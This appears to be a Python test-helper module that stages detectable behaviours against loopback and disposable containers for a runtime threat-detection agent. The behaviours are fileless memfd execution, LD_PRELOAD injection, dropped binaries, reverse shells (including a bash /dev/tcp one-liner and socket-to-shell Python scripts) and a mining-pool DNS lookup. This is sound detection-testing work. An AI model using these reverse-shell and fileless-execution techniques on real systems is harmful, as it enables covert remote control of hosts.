"""Deeds for system tests: what findings are about, and what only looks like it, really done.

Each does something in a real child process, on this host or in a container of its own, and cleans up.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import platform
import re
import shutil
import socket
import struct
import subprocess
import sys
import time
import uuid
from collections.abc import Callable
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any
from typing import NamedTuple

from agent.simulate import _container
from agent.simulate._base import scratch
from agent.simulate.execution_new_library_loaded import library
from tests.containers import Executed
from tests.containers import RunningContainer
from tests.containers import running_container
from tests.kernel.networks import ASKING
from tests.kernel.networks import alone

WAIT_S = 30.0  # two cores, shared
FILE_TICK_S = 0.02  # files are dated by the kernel's clock of 100 Hz or more
DPKG_LOCK_S = 30.0  # somebody else may be installing something

TRUE = os.path.realpath("/bin/true")
SH = os.path.realpath("/bin/sh")
BASH = os.path.realpath("/bin/bash")
PYTHON = os.path.realpath("/usr/bin/python3")  # a container has this host's files
OUR_PYTHON = os.path.realpath(sys.executable)
LIBM = str(library(Path("/")))
HASHED_S = 0.3  # what is gone sooner, with every directory that held it, may be gone before it is hashed
LINGER = f"sleep {HASHED_S}; :"  # the shell stays what it is


class Done(NamedTuple):
    """What was done, and what a finding about it must therefore say."""

    pid: int
    path: str
    """Of the program that the finding is about."""
    sha256: str
    """Of the bytes that ran."""
    ns_pid: int
    """The pid as it was known where it ran."""
    parent: str
    """Path of the program that started it."""
    container_id: str | None = None
    writer: str | None = None
    """Path of the program that wrote the file that the finding is about."""
    context: dict[str, Any] = {}  # noqa: RUF012  # of a NamedTuple: a default, never changed
    """What the runtime context must say, among other things."""
    action: dict[str, Any] = {}  # noqa: RUF012  # as above
    """What the action must say, among other things."""


def sha256_of(path: str | Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def start(*argv: str | Path, **options: Any) -> int:
    """Run a program to its end, which must be a good one; return the pid that it had."""
    with beside(*argv, **options) as child:
        assert 0 == child.wait(WAIT_S), argv
    return child.pid


@contextlib.contextmanager
def beside(*argv: str | Path, **options: Any) -> Iterator[subprocess.Popen[Any]]:
    """Run a program while the block lasts, and until it ends by itself."""
    child = subprocess.Popen(argv, **({"stdin": subprocess.DEVNULL, "start_new_session": True} | options))
    try:
        yield child
        child.wait(WAIT_S)
    finally:
        child.kill()
        child.wait()


def succeeded(done: Executed) -> Executed:
    assert (0, "") == (done.status, done.stderr), done
    return done


def on_host(pid: int, path: str, program: str, **more: Any) -> Done:
    """Return what was done by a child of ours, which ran the bytes of `program`."""
    return Done(pid, path, sha256_of(program), pid, **({"parent": OUR_PYTHON} | more))


# --- In containers -------------------------------------------------------------------------------------------------

X = f"/tmp/x-{uuid.uuid4().hex}"
"""Where a container's new program goes: no file of this host has the name, which the container would see."""
RUN_X = f"chmod 755 {X}; exec {X} $0"
ODD = f"cp {TRUE} {X}.odd; {X}.odd"
"""Company for a deed that is weak alone, and whose own program is of the image."""
MAKE = f"echo 'int main(void) {{ return 0; }}' > {X}.c && gcc -o {X}.made {X}.c"

FROM_MEMORY = """
import os, sys
name, program, *argv = sys.argv[1:]
fd = os.memfd_create(name, 0)
with open(program, "rb") as original, open(fd, "wb", closefd=False) as memory:
    memory.write(original.read())
os.execve(fd, argv, os.environ)
"""
"""Keeps its pid. To execute a descriptor is execveat(fd, "", …, AT_EMPTY_PATH) in the C library (glibc since 2.27)."""

FETCH = """
import http.server, os, sys, threading, urllib.request
class Server(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_):
        pass
os.chdir("/")
with http.server.HTTPServer(("127.0.0.1", 0), Server) as server:
    threading.Thread(target=server.serve_forever, daemon=True).start()
    urllib.request.urlretrieve(f"http://127.0.0.1:{server.server_port}{sys.argv[1]}", sys.argv[2])
    server.shutdown()
"""

CALL_HOME_ALONE = """
import os, socket, sys
server = socket.create_server(("127.0.0.1", 0))
if os.fork() == 0:
    connection, _ = server.accept()
    connection.sendall(b"exit\\n")
    connection.recv(1)
    os._exit(0)
wire = socket.create_connection(server.getsockname())
for fd in (0, 1, 2):
    os.dup2(wire.fileno(), fd)
os.execv("/bin/sh", ["sh", "-s", sys.argv[1]])
"""
"""Keeps its pid."""


def in_container(
    script: str, word: str, *, program: str = X, path: str | None = None, code: str = "", **more: Any
) -> Done:
    """Have a shell in a container run `script`, at whose end it must be `program`.

    There, `$0` is the word, and `$code` Python. To the kernel the program is `path`, if that is not where its bytes
    are.
    """
    with running_container() as container:
        done = succeeded(container.exec(["/bin/sh", "-c", f"echo $$; {script}", word], {"code": code}))
        sha256 = sha256_of(container.directory / "rootfs" / program.lstrip("/"))
        time.sleep(HASHED_S)
    ns_pid = int(done.stdout.split()[0])
    runc = os.path.realpath(shutil.which("runc") or "runc")
    return Done(done.pid, path or program, sha256, ns_pid, runc, container_id=container.id, **more)


def from_memory_in_container(word: str) -> Done:
    name = f"x-{uuid.uuid4().hex}"
    script = f'exec {PYTHON} -c "$code" {name} {SH} x -c "{LINGER}" $0'
    path = f"/memfd:{name}"
    return in_container(script, word, program=SH, path=path, code=FROM_MEMORY, context={"filePath": path})


def fetched(word: str) -> Done:
    """A program that python got over HTTP, in the container's own network."""
    return in_container(f'{PYTHON} -c "$code" {TRUE} {X}; {RUN_X}', word, code=FETCH, writer=PYTHON)


def preloaded(word: str) -> Done:
    script = f"cp {LIBM} {X}.so; LD_PRELOAD={X}.so exec {TRUE} $0"
    context = {"libraryPath": f"{X}.so", "ldPreloadValue": f"{X}.so"}
    return in_container(script, word, program=TRUE, writer=os.path.realpath("/bin/cp"), context=context)


def opened_at_run_time(word: str) -> Done:
    script = f'{ODD}; cp {LIBM} {X}.so; exec {PYTHON} -c "$code" $0'
    code = f"import ctypes; ctypes.CDLL('{X}.so')"
    context = {"libraryPath": f"{X}.so"}
    return in_container(script, word, program=PYTHON, code=code, writer=os.path.realpath("/bin/cp"), context=context)


def run_by_the_loader(word: str) -> Done:
    """A copied program that is not executed: the image's dynamic loader is, and maps it."""
    found = re.search(rb"/lib[^\0]*/ld-[^\0]*", Path(TRUE).read_bytes())
    assert found is not None
    loader = os.path.realpath(found[0].decode("ascii"))
    script = f"{ODD}; cp {TRUE} {X}; exec {loader} {X} $0"
    writer = os.path.realpath("/bin/cp")
    return in_container(script, word, program=loader, writer=writer, context={"libraryPath": X})


@cache
def tiny_program() -> bytes:
    """Return an ELF executable that exits with 0, small enough to be written by an echo."""
    machine, code = {
        "x86_64": (62, "b83c00000031ff0f05"),  # mov eax, 60; xor edi, edi; syscall
        "aarch64": (183, "a80b80d2000080d2010000d4"),  # mov x8, 93; mov x0, 0; svc 0
    }[platform.machine()]
    base, head = 0x400000, 64 + 56
    size = head + len(code) // 2
    identity = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)
    header = struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, base + head, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x10000)
    return identity + header + segment + bytes.fromhex(code)


def written_by_a_shell(word: str) -> Done:
    """A program from the shell's own printf: no other program takes part."""
    octal = "".join(f"\\0{byte:03o}" for byte in tiny_program())
    return in_container(f"printf %b '{octal}' > {X}; {RUN_X}", word, writer=SH)


# --- Without a file ------------------------------------------------------------------------------------------------


def from_memory(name: str, word: str) -> Done:
    """A shell from a memfd, by the name that its descriptor has in /proc."""
    fd = os.memfd_create(name, 0)
    try:
        with open(fd, "wb", closefd=False) as memory:
            memory.write(Path(SH).read_bytes())
        return from_descriptor(fd, f"/memfd:{name}", word)
    finally:
        os.close(fd)


def from_memory_without_a_path(word: str) -> Done:
    """A shell from a memfd, by the descriptor alone."""
    name = f"x-{uuid.uuid4().hex}"
    pid = start(sys.executable, "-c", FROM_MEMORY, name, SH, "x", "-c", LINGER, word)
    return on_host(pid, f"/memfd:{name}", SH, context={"filePath": f"/memfd:{name}"})


def from_an_unlinked_file(directory: Path, word: str) -> Done:
    """A copied shell that has no name any more."""
    path = Path(shutil.copy(SH, directory / "x"))
    fd = os.open(path, os.O_RDONLY)
    try:
        path.unlink()
        return from_descriptor(fd, str(path), word)
    finally:
        os.close(fd)


def from_descriptor(fd: int, path: str, word: str) -> Done:
    """The shell behind a descriptor of ours, whose file is `path` to the kernel."""
    pid = start("x", "-c", LINGER, word, executable=f"/proc/self/fd/{fd}", pass_fds=[fd])
    return on_host(pid, path, SH, context={"filePath": path})


# --- Reverse shells ------------------------------------------------------------------------------------------------

CALL_HOME = """
import os, socket, subprocess, sys
wire = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(wire.fileno(), fd)
subprocess.call(["/bin/sh", "-s", sys.argv[2]])
"""


def called_home_by(shell: str, word: str) -> Done:
    """A shell that connects to us, as bash can, and is sent away."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        command = f"exec {shell} --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
        with beside(shell, "-c", command, word, env={"HISTFILE": "/dev/null"}) as child:
            answer(server, b"exit\n")
    return on_host(child.pid, shell, shell, **wired(port))


def called_home_by_python(word: str) -> Done:
    """A shell that a python started on its connection to us."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        with beside(sys.executable, "-I", "-c", CALL_HOME, str(port), word):
            pid = int(answer(server, b"echo $$; exit\n"))
    return on_host(pid, SH, SH, **wired(port))


def called_home_in_container(word: str) -> Done:
    """A python that becomes a shell, on a connection within the container's own network."""
    return in_container(f'exec {PYTHON} -c "$code" $0', word, program=SH, code=CALL_HOME_ALONE, **wired())


def wired(port: int | None = None) -> dict[str, Any]:
    """Return what a finding says of a connection to loopback."""
    connection: dict[str, Any] = {"remoteIpDetails": {"ipAddressV4": "127.0.0.1"}, "protocol": "TCP"}
    if port is not None:
        connection["remotePortDetails"] = {"port": port}
    action = {"networkConnectionAction": connection | {"connectionDirection": "OUTBOUND"}}
    return {"action": action, "context": {"addressFamily": "AF_INET", "ianaProtocolNumber": 6}}


def answer(server: socket.socket, commands: bytes) -> bytes:
    """Take a connection, send commands, and return what comes back until it is closed."""
    server.settimeout(WAIT_S)
    connection, _ = server.accept()
    with connection:
        connection.settimeout(WAIT_S)
        connection.sendall(commands)
        return b"".join(iter(lambda: connection.recv(4096), b""))


# --- Names ---------------------------------------------------------------------------------------------------------

OVER_UDP = """
resolver = udp()
resolver.bind((HERE, 53))
udp().sendto(message(sys.argv[1]), (HERE, 53))
resolver.recv(512)
"""

OVER_TCP = """
resolver, asker = server(), tcp()
asker.connect((HERE, 53))
asker.sendall(sized(message(sys.argv[1])))
resolver.accept()[0].recv(512)
"""

BY_THE_C_LIBRARY = """
import subprocess
libc.unshare(0x20000)  # CLONE_NEWNS
subprocess.run(["mount", "--make-rprivate", "/"], check=True)
with open(sys.argv[2], "w") as file:
    file.write("nameserver 127.0.0.1\\n")
subprocess.run(["mount", "--bind", sys.argv[2], os.path.realpath("/etc/resolv.conf")], check=True)
resolver = udp()
resolver.bind((HERE, 53))
child = os.fork()
if child == 0:
    while True:
        question, asker = resolver.recvfrom(512)
        resolver.sendto(question[:2] + b"\\x81\\x83" + question[4:], asker)  # there is no such name
try:
    socket.getaddrinfo(sys.argv[1] + ".", 80)
except socket.gaierror:
    pass
os.kill(child, 9)
os.wait()
"""


def asked(code: str, protocol: str, directory: Path, word: str) -> Done:
    """A question for a pool's address, to a resolver in a network of its own."""
    pid = alone(ASKING + code, "Pool.MineXMR.com", str(directory / "resolv.conf"), word).pid
    request = {"domain": "pool.minexmr.com", "protocol": protocol}
    return on_host(pid, OUR_PYTHON, OUR_PYTHON, action={"dnsRequestAction": request})


# --- What only looks like it: each returns the pids that came nearest ----------------------------------------------


def run_a_program_of_the_image() -> set[int]:
    with running_container() as container:
        return {container.pid, succeeded(container.exec(["/bin/true"])).pid}


def compile_and_run_in_a_container() -> set[int]:
    script = f"{MAKE} && exec {X}.made"
    with running_container() as container:
        return {succeeded(container.exec(["/bin/sh", "-c", script])).pid}


def use_a_layer_that_was_there_at_start() -> set[int]:
    """Run a program and load a library that were put into the writable layer just before the container started."""

    def fill(rootfs: Path) -> None:
        shutil.copy(TRUE, rootfs / X.lstrip("/"))
        shutil.copy(LIBM, rootfs / f"{X}.so".lstrip("/"))

    with container_of(fill) as container:
        ran = succeeded(container.exec([X], {"LD_PRELOAD": f"{X}.so"}))
    return {ran.pid}


@contextlib.contextmanager
def container_of(fill: Callable[[Path], None]) -> Iterator[RunningContainer]:
    """Start a container whose root file system was changed before, and end it."""
    name = f"vedette-{uuid.uuid4().hex[:16]}"
    with scratch() as directory, _container._mounted(directory):
        fill(directory / "rootfs")
        time.sleep(FILE_TICK_S)
        _container._write_bundle(directory)
        with _container._started(name, directory) as container:
            yield container


def load_libraries_of_the_image() -> set[int]:
    with running_container() as container:
        opened = succeeded(container.exec([PYTHON, "-c", f"import ctypes; ctypes.CDLL('{LIBM}')"]))
        preloaded = succeeded(container.exec(["/bin/true"], {"LD_PRELOAD": LIBM}))
    return {opened.pid, preloaded.pid}


def run_a_copy_on_the_host(directory: Path) -> set[int]:
    return {start(shutil.copy(TRUE, directory / "x"))}


def load_a_copied_library_on_the_host(directory: Path) -> set[int]:
    return {start(TRUE, env={"LD_PRELOAD": shutil.copy(LIBM, directory / "x.so")})}


def install_a_package(directory: Path) -> set[int]:
    """Install a package of our own with dpkg, run its program, and remove it."""
    name = f"vedette-test-{uuid.uuid4().hex}"
    program = Path("/usr/lib", name, "program")
    made = _package(directory, name, program)
    try:
        _dpkg("--install", made)
        pid = start(program)
        _dpkg("--remove", name)
    finally:
        _dpkg("--purge", name)
    assert not program.parent.exists()
    return {pid}


def _package(directory: Path, name: str, program: Path) -> Path:
    root = directory / name
    within = root / program.relative_to("/")
    within.parent.mkdir(parents=True)
    shutil.copy(TRUE, within)
    control = root / "DEBIAN" / "control"
    control.parent.mkdir()
    control.write_text(
        f"Package: {name}\nVersion: 1\nArchitecture: all\nMaintainer: nobody <nobody@example.com>\n"
        "Description: a test\n"
    )
    postinst = control.with_name("postinst")
    postinst.write_text(f"#!/bin/sh\nexec {program}\n")
    postinst.chmod(0o755)
    made = directory / f"{name}.deb"
    start("dpkg-deb", "--build", "--root-owner-group", root, made, stdout=subprocess.DEVNULL)
    return made


def _dpkg(*arguments: str | Path) -> None:
    """Run dpkg, waiting for whoever holds its lock."""
    deadline_s = time.monotonic() + DPKG_LOCK_S
    while True:
        done = subprocess.run(["dpkg", *arguments], capture_output=True, text=True, check=False, timeout=WAIT_S)
        if done.returncode == 0:
            return
        assert "lock" in done.stderr, done.stderr
        assert time.monotonic() < deadline_s, done.stderr
        time.sleep(0.5)


def run_again_after_being_unlinked(directory: Path) -> set[int]:
    program = shutil.copy(SH, directory / "daemon")
    return {start(program, "-c", f"rm {program}; exec /proc/self/exe -c :")}


def serve_an_accepted_connection() -> set[int]:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        accepted, _ = server.accept()
        client.sendall(b"exit\n")
        with accepted:
            return {start(SH, "-s", stdin=accepted, stdout=accepted, stderr=accepted)}


def wait_for_a_port() -> set[int]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        return {start(BASH, "-c", f"</dev/tcp/127.0.0.1/{server.getsockname()[1]}")}


def ask(name: str) -> set[int]:
    return {alone(ASKING + OVER_UDP, name).pid}
